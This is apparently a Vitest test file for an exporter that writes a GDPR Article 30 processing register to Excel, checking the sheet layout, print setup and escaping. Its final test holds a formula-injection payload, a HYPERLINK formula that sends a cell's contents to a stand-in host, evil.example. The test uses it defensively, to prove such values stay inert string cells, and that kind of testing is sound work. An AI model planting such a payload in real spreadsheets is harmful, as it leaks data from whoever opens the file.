import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { buildRegister } from "./build";
import { testActivity, testSource } from "../../test/fixtures/test-source";
import { CONTACTS_SHEET, CONTROLLER_SHEET, FIRST_DATA_ROW, HEADER_ROW, PROCESSOR_SHEET, renderRegisterXlsx, XLSX_CONTROLLER_COLUMNS } from "./xlsx";

async function workbookOf(activities = [testActivity()]) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await renderRegisterXlsx(buildRegister(testSource(activities)))) as unknown as ArrayBuffer);
  return workbook;
}

const text = (sheet: ExcelJS.Worksheet, address: string) => String(sheet.getCell(address).value ?? "");
const controllerColumn = (key: (typeof XLSX_CONTROLLER_COLUMNS)[number]["key"]) => XLSX_CONTROLLER_COLUMNS.findIndex((column) => column.key === key) + 1;

const payroll = testActivity({
  purposes: [
    { id: "purpose-1", description: "Paying salaries", legitimateInterests: "", balancingTestReference: "", legalBasisIds: ["lb-6b", "lb-bdsg"] },
    // Recorded with (f) before (a): the sheet keeps that order rather than sorting the bases.
    { id: "purpose-2", description: "Detecting fraud", legitimateInterests: "Protecting the company against fraud", balancingTestReference: "LIA-7", legalBasisIds: ["lb-6f", "lb-6a"] },
  ],
});
const hosting = testActivity({ id: "act-p", reference: "P-1", name: "Hosting for clients", role: "PROCESSOR", parties: [{ recipientId: "r-client", role: "CLIENT_CONTROLLER", note: "" }] });

describe("the register workbook a DPO hands over", () => {
  // Regression: the activity's name sat in column AE with column A empty, purposes, bases and interests were
  // separate lists (bases sorted differently), only rows were frozen, and there was no filter and no print setup.
  it("starts with reference and name, and puts each purpose on its own line with its bases and interests beside it", async () => {
    const sheet = (await workbookOf([payroll, hosting])).getWorksheet(CONTROLLER_SHEET)!;
    expect(text(sheet, "A1")).toBe("Record of processing activities (Art. 30(1) GDPR) — Acme GmbH — exported 2026-11-27");
    expect([text(sheet, "A2"), text(sheet, "B2"), text(sheet, "C2"), text(sheet, "D2"), text(sheet, "E2")]).toEqual([
      "Reference",
      "Name of processing activity",
      "Purpose of processing",
      "Article 6 lawful basis for processing personal data",
      "Legitimate interests for the processing (if applicable)",
    ]);
    expect([text(sheet, "A3"), text(sheet, "B3"), text(sheet, "C3"), text(sheet, "D3"), text(sheet, "E3")]).toEqual([
      "HR-01",
      "Payroll",
      "Paying salaries",
      "Art. 6(1)(b) GDPR – Contract\n§ 26 BDSG – Employment relationship",
      "",
    ]);
    expect([text(sheet, "A4"), text(sheet, "B4"), text(sheet, "C4"), text(sheet, "D4"), text(sheet, "E4"), text(sheet, "F4")]).toEqual([
      "HR-01",
      "Payroll",
      "Detecting fraud",
      "Art. 6(1)(f) GDPR – Legitimate interests\nArt. 6(1)(a) GDPR – Consent",
      "Protecting the company against fraud",
      "LIA-7",
    ]);
    // The activity's other columns are on each of its lines, so a sorted or filtered line keeps them.
    expect(sheet.getRow(4).getCell(controllerColumn("recipients")).value).toBe(sheet.getRow(3).getCell(controllerColumn("recipients")).value);
    expect(text(sheet, `A${FIRST_DATA_ROW + 2}`)).toBe("");
  });

  it("freezes the header and the first two columns, filters the header and prints landscape, one page wide, with titles and page numbers", async () => {
    const workbook = await workbookOf([payroll, hosting]);
    for (const [name, lastRow, lastColumn] of [
      [CONTROLLER_SHEET, 4, "AF"],
      [PROCESSOR_SHEET, 3, "I"],
    ] as const) {
      const sheet = workbook.getWorksheet(name)!;
      expect(sheet.views[0]).toMatchObject({ state: "frozen", xSplit: 2, ySplit: HEADER_ROW, topLeftCell: "C3" });
      expect(sheet.autoFilter).toBe(`A${HEADER_ROW}:${lastColumn}${lastRow}`);
      expect(sheet.pageSetup).toMatchObject({ orientation: "landscape", paperSize: 9, fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: "2:2" });
      expect(sheet.headerFooter.oddFooter).toBe("&CPage &P of &N");
      expect(sheet.headerFooter.oddHeader).toContain("Acme GmbH");
      expect(sheet.headerFooter.oddHeader).toContain("Exported 2026-11-27");
      expect([text(sheet, "A2"), text(sheet, "B2")]).toEqual(["Reference", "Name of processing activity"]);
      expect(sheet.getColumn(2).width).toBeGreaterThanOrEqual(20);
      expect(sheet.getCell("C3").alignment).toMatchObject({ wrapText: true });
    }
    const processor = workbook.getWorksheet(PROCESSOR_SHEET)!;
    expect([text(processor, "A3"), text(processor, "B3"), text(processor, "C3")]).toEqual(["P-1", "Hosting for clients", "Client plc"]);
    expect(text(processor, "A1")).toContain("(Art. 30(2) GDPR) — Acme GmbH — exported 2026-11-27");
  });

  it("keeps the contact block of Art. 30(1)(a) on a sheet of its own after the registers", async () => {
    const workbook = await workbookOf();
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([CONTROLLER_SHEET, CONTACTS_SHEET]);
    const contacts = workbook.getWorksheet(CONTACTS_SHEET)!;
    expect([text(contacts, "A3"), text(contacts, "B3"), text(contacts, "C3")]).toEqual(["Controller", "Acme GmbH", "Domkloster 4, 50667 Köln, Germany"]);
  });

  it("writes an ampersand in the organisation's name into the page header as a literal one", async () => {
    const source = testSource();
    source.organisation.legalName = "Smith & Jones";
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderRegisterXlsx(buildRegister(source))) as unknown as ArrayBuffer);
    expect(workbook.getWorksheet(CONTROLLER_SHEET)!.headerFooter.oddHeader).toContain("Smith && Jones");
  });

  it("gives an activity without a purpose a line of its own", async () => {
    const sheet = (await workbookOf([testActivity({ purposes: [] })])).getWorksheet(CONTROLLER_SHEET)!;
    expect([text(sheet, "A3"), text(sheet, "B3"), text(sheet, "C3")]).toEqual(["HR-01", "Payroll", ""]);
    expect(sheet.autoFilter).toBe("A2:AF3");
  });
});

describe("renderRegisterXlsx and formula injection", () => {
  // The XLSX is written without the CSV's protective quote: a cell typed as a string is never
  // evaluated by a spreadsheet, however it begins. This proves the cell is a string, not a formula.
  it("writes a value that begins with = as a string cell, without a formula", async () => {
    const payload = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const workbook = await workbookOf([testActivity({ name: payload, description: "@SUM(1,2)" })]);
    const cell = workbook.getWorksheet(CONTROLLER_SHEET)!.getRow(FIRST_DATA_ROW).getCell(controllerColumn("name"));
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(payload);
    let formulas = 0;
    workbook.eachSheet((sheet) => sheet.eachRow((r) => r.eachCell((c) => (formulas += c.type === ExcelJS.ValueType.Formula ? 1 : 0))));
    expect(formulas).toBe(0);
  });
});
